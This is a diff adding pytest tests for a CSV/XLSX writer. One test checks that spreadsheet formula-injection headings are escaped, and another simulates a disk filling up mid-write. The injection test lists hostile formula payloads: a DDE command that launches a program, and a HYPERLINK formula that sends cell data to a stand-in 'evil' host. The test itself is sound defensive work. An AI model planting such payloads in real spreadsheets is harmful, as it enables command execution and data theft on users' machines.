@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import csv
+import os
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -103,3 +104,34 @@ def test_a_folder_that_is_not_there_is_told(tmp_path: Path) -> None:
     with pytest.raises(UserError, match="There is no folder"):
         write_table(tmp_path / "none" / "a.csv", ("a",), [])
     assert list(tmp_path.iterdir()) == []
+
+
+@pytest.mark.parametrize("ending", [".csv", ".xlsx"])
+def test_headings_cannot_run_as_formulas_either(ending: str, tmp_path: Path) -> None:
+    path = tmp_path / f"a{ending}"
+    headings = ["=cmd|'/C calc'!A0", '=HYPERLINK("http://evil/"&A1,"CSAT")', "@SUM(1)", "+1", "工号"]
+    write_table(path, headings, [["x"] * 5])
+    if ending == ".csv":
+        with path.open(encoding="utf-8-sig", newline="") as file:
+            written = next(csv.reader(file))
+    else:
+        sheet = openpyxl.load_workbook(path).worksheets[0]
+        written = [str(cell.value) for cell in sheet[1]]
+        assert all(cell.data_type == "s" for cell in sheet[1])
+    assert written == [*(f"'{heading}" for heading in headings[:4]), "工号"]
+
+
+@pytest.mark.skipif(os.name == "nt", reason="Windows has no limit to set")
+def test_a_disk_that_fails_while_a_workbook_is_packed_is_told(tmp_path: Path) -> None:
+    import resource
+
+    soft, hard = resource.getrlimit(resource.RLIMIT_FSIZE)
+    rows = [[os.urandom(30).hex() for _ in range(4)] for _ in range(200)]
+    for most in (0, 500, 5_000, 20_000):
+        resource.setrlimit(resource.RLIMIT_FSIZE, (most, hard))
+        try:
+            with pytest.raises(UserError, match="could not be read or written"):
+                write_table(tmp_path / "a.xlsx", ["a", "b", "c", "d"], rows)
+        finally:
+            resource.setrlimit(resource.RLIMIT_FSIZE, (soft, hard))
+        assert list(tmp_path.iterdir()) == []
